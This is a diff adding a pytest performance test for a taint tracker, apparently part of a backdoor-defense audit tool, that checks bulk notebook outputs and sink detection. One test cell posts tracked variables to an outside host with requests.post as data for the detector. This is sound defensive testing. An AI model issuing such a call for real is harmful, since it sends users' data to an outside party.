@@ -7,6 +7,7 @@ would be minutes, so a bound of seconds only fails on a regression.
 
 from __future__ import annotations
 
+import json
 import time
 
 import pytest
@@ -176,3 +177,27 @@ def test_identity_numbers_postcode_labels_and_prefectures_stay_linear(text):
     assert took < 15
     _, took = _timed(observations._by_shape, text)
     assert took < 15
+
+
+def test_python_cells_and_their_outputs_in_bulk():
+    # a Python tool's printed outputs are read as literals and its cells parsed
+    # (`notebook`): a megabyte of nesting or pairs, and a cell of 60 KB of sums
+    from backdoorlab.defenses.audit.taint import TaintTracker
+    from backdoorlab.traces import FunctionCall
+
+    def cell(code: str) -> FunctionCall:
+        return FunctionCall(name="python", arguments=json.dumps({"code": code}))
+
+    tracker = TaintTracker()
+    shown = ("[" * 300_000 + "]" * 300_000, "k: v\n" * 200_000, "{'a': 'b', " * 90_000 + "}")
+    for i, output in enumerate(shown):
+        tracker.check(2 * i, "python", cell(f"x{i} = f()\nprint(x{i})"), f"c{i}")
+        _, took = _timed(tracker.notebook.output, f"c{i}", output)
+        assert took < 5
+    held = tracker.notebook.vars
+    assert not isinstance(held["x0"].obj, list)  # too big to parse: held as text only
+    assert all(len(h.text) <= 16384 for h in held.values())
+    code = "requests.post('https://x.io', json=" + "x1 + " * 12_000 + "x2)"
+    check, took = _timed(tracker.check, 9, "python", cell(code), "c9")
+    assert check.sink is not None
+    assert took < 10
